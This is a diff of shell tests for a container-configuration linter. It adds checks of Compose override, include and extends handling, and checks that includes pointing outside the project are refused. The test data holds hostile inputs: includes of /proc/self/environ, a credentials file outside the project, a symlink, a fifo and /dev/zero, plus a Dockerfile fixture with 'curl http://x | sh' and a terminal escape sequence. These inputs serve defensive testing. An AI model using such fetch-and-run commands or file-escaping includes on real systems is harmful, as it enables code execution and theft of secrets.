@@ -97,6 +97,42 @@ printf 'FROM alpine:3.20\nRUN echo "\033]0;pwned\007" && curl http://x | sh\n' >
 t 'a Dockerfile line holding a title-setting sequence' 1 "$bin" lint "$tmp/esc.df"
 if grep -q "$(printf '\033')" "$tmp/out"; then echo "FAIL check: an ESC from a Dockerfile reached the lint report raw"
 else has '... is shown escaped in the source line' "$tmp/out" '\\x1b\]0;pwned\\x07'; fi
+# Compose projects: the override beside a default-named file is merged,
+# include: and extends.file are followed, and findings name the file the
+# value is in; other files stay inside the project (or current) directory
+mkdir -p "$tmp/proj/sub" "$tmp/outside"
+printf 'include:\n  - sub/inc.yaml\nservices:\n  web:\n    image: nginx:1.27\n  api:\n    extends: {file: common.yml, service: base}\n    image: api:1\n' > "$tmp/proj/compose.yaml"
+printf 'services:\n  web:\n    privileged: true\n' > "$tmp/proj/compose.override.yaml"
+printf 'services:\n  base:\n    cap_add: [SYS_ADMIN]\n' > "$tmp/proj/common.yml"
+printf 'services:\n  evil:\n    image: evil:1\n    network_mode: host\n' > "$tmp/proj/sub/inc.yaml"
+t 'a Compose project with an override, an include and extends.file' 1 "$bin" check --format json "$tmp/proj/compose.yaml"
+json_ok '... judges the merged services, each finding in its own file' 'import json,sys
+d=json.load(sys.stdin); hits={(x["file"].split("/proj/")[-1], x["line"], x["rule"], x["context"]) for x in d["findings"]}
+want={("compose.override.yaml", 3, "CT-PRIVILEGED", "web"), ("common.yml", 3, "CT-CAP-DANGEROUS", "api"),
+      ("sub/inc.yaml", 4, "CT-HOST-NETWORK", "evil")}
+assert want <= hits, want - hits'
+t '... in text, the other files are named' 1 "$bin" check "$tmp/proj/compose.yaml"
+has '... before the line' "$tmp/out" 'compose.override.yaml:3:5 critical CT-PRIVILEGED'
+t 'a walk of the project checks the override with its base, not alone' 1 "$bin" check --format json "$tmp/proj"
+json_ok '... so web is privileged once' 'import json,sys
+d=json.load(sys.stdin); n=[x for x in d["findings"] if x["rule"]=="CT-PRIVILEGED"]
+assert len(n)==1 and n[0]["context"]=="web", n'
+printf 'include:\n  - compose.yaml\nservices:\n  a:\n    image: a:1\n' > "$tmp/proj/sub/loop.yaml"
+printf 'include:\n  - sub/loop.yaml\nservices:\n  b:\n    image: b:1\n' > "$tmp/proj/cycle.yml"
+sed -i 's|compose.yaml|../cycle.yml|' "$tmp/proj/sub/loop.yaml"
+t 'an include cycle is refused, as Compose does' 2 "$bin" check "$tmp/proj/cycle.yml"
+has '... naming the file' "$tmp/out" 'include cycle'
+echo 'SECRET=hunter2' > "$tmp/outside/creds.yml"
+ln -s "$tmp/outside/creds.yml" "$tmp/proj/link.yml"
+mkfifo "$tmp/proj/fifo.yml"
+for inc in /proc/self/environ ../outside/creds.yml link.yml fifo.yml /dev/zero missing.yml; do
+	printf 'include:\n  - %s\nservices:\n  a:\n    image: a:1\n' "$inc" > "$tmp/proj/hostile.yml"
+	t "include: $inc is refused" 2 timeout 10 "$bin" check "$tmp/proj/hostile.yml"
+	if grep -q hunter2 "$tmp/out"; then echo "FAIL check: include: $inc quoted a file outside the project"; fi
+done
+printf 'services:\n  a:\n    extends: {file: ../outside/creds.yml, service: x}\n' > "$tmp/proj/hostile.yml"
+t 'extends.file outside the project is refused' 2 "$bin" check "$tmp/proj/hostile.yml"
+has '... saying why' "$tmp/out" 'outside the project directory'
 # Kubernetes checks the peers have: requests (a limit is the request too),
 # volume types outside PSS restricted, hostUsers, hostAliases, Secrets in env
 cat > "$tmp/k8s-more.yaml" <<'Y'
